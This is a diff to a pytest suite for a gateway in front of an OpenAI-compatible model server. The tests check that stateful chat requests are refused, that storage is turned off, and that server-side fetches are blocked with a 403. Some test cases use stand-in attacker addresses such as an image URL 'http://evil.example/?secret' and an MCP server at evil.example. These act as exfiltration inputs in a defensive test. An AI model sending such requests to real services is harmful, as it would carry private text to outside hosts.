@@ -276,12 +276,30 @@ async def test_nothing_is_kept_between_calls_of_the_responses_api(served: Served
 
 
 @pytest.mark.parametrize(
+    "fields", [{"previous_response_id": "resp_1"}, {"conversation": "conv_1"}, {"background": True}], ids=str
+)
+async def test_nothing_is_kept_between_chats_either(served: Served, fields: dict[str, Any]) -> None:
+    """A chat that asks for what was kept is refused like a response, and none is kept; who says nothing sends none."""
+    create = served.client.chat.completions.create
+    hi: Any = {"model": "m", "messages": [{"role": "user", "content": "x"}]}
+    with pytest.raises(openai.BadRequestError, match="nothing is kept"):
+        await create(**hi, extra_body=fields)
+    assert not served.model.requests
+    await create(**hi, store=True)
+    await create(**hi)
+    assert [request.body.get("store") for request in served.model.requests] == [False, None]
+
+
+@pytest.mark.parametrize(
     ("api", "fields"),
     [
         ("responses", {"tools": [{"type": "mcp", "server_label": "x", "server_url": "https://evil.example"}]}),
         ("responses", {"tools": [{"type": "web_search"}]}),
         ("responses", {"input": [{"role": "user", "content": [
             {"type": "input_image", "image_url": "http://evil.example/?secret", "detail": "auto"}]}]}),
+        ("chat", {"tools": [{"type": "web_search"}]}),
+        ("chat", {"web_search_options": {}}),
+        ("chat", {"extra_body": {"data_sources": [{"type": "azure_search"}]}}),
         ("chat", {"messages": [{"role": "user", "content": [
             {"type": "image_url", "image_url": {"url": "http://evil.example/?secret"}}]}]}),
     ],
@@ -289,7 +307,8 @@ async def test_nothing_is_kept_between_calls_of_the_responses_api(served: Served
 async def test_a_model_server_is_not_sent_to_fetch(served: Served, api: str, fields: dict[str, Any]) -> None:
     """A tool of the server's own, or an address to load, would carry text past the door: 403, and nothing is sent."""
     asks = served.client.responses if api == "responses" else served.client.chat.completions
-    first = {"model": "m", "input": "x"} if api == "responses" else {"model": "m"}
+    hi = [{"role": "user", "content": "x"}]
+    first = {"model": "m", "input": "x"} if api == "responses" else {"model": "m", "messages": hi}
     with pytest.raises(openai.PermissionDeniedError, match="past the door"):
         await asks.create(**{**first, **fields})  # type: ignore[attr-defined]  # two resources of one shape
     assert not served.model.requests
